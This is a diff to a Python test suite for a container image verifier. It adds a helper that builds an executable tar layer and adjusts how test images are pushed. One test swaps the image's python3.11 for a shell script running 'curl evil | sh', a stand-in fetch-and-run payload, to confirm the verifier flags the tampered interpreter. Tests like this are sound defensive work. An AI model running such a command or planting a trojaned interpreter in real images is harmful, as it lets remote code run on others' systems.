@@ -322,6 +322,7 @@ def push_with_last_layer_grown(source: str, target: str, members: bytes, folder:
     """`source` pushed again as `target`, the tar `members` added to its last layer: as many
     layers as the Dockerfile makes, one of them carrying more."""
     skopeo = ["skopeo", "copy", "--quiet", "--src-tls-verify=false"]
+    folder.mkdir()
     subprocess.run([*skopeo, f"docker://{source}", f"dir:{folder / 'source'}"], check=True)
     manifest = json.loads((folder / "source" / "manifest.json").read_text())
     last = folder / "source" / manifest["layers"][-1]["digest"].removeprefix("sha256:")
@@ -698,7 +699,7 @@ def test_outside_the_venv_only_the_pinned_base_and_the_dockerfile_s_layers_verif
     ]
     # As many layers as the Dockerfile makes, the last one carrying another interpreter.
     interpreter = f"{repository}:interpreter"
-    replaced = layer_of(("usr/bin/python3.11", b"#!/bin/sh\nexec curl evil | sh\n"))
+    replaced = executable_layer("usr/bin/python3.11", b"#!/bin/sh\nexec curl evil | sh\n")
     push_with_last_layer_grown(reference, interpreter, replaced, tmp_path / "interpreter")
     assert one_line(verify(engine, project, "--image", interpreter)) == (
         f"error: {interpreter}: /usr/bin/python3.11: changed from the base image's"
@@ -724,8 +725,20 @@ def test_outside_the_venv_only_the_pinned_base_and_the_dockerfile_s_layers_verif
         pins.write_text(kept)
 
 
+def executable_layer(name: str, content: bytes) -> bytes:
+    """A tar layer of one file with mode 755, as the interpreter it replaces."""
+    buffer = io.BytesIO()
+    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as archive:
+        info = tarfile.TarInfo(name)
+        info.size, info.mode = len(content), 0o755
+        archive.addfile(info, io.BytesIO(content))
+    return buffer.getvalue()
+
+
 def push_other_base(base: str, folder: Path) -> str:
     """Another base in the pinned base's repository (one more layer): its REFERENCE@DIGEST."""
-    repository = base.partition("@")[0].rpartition(":")[0]
-    push_with_layer(base, f"{repository}:other", layer_of(("etc/other", b"1\n")), folder)
+    tagged, _, digest = base.partition("@")
+    repository = tagged.rpartition(":")[0]
+    layer = layer_of(("etc/other", b"1\n"))
+    push_with_layer(f"{repository}@{digest}", f"{repository}:other", layer, folder)
     return f"{base.partition('@')[0]}@{registries.digest(f'{repository}:other')}"
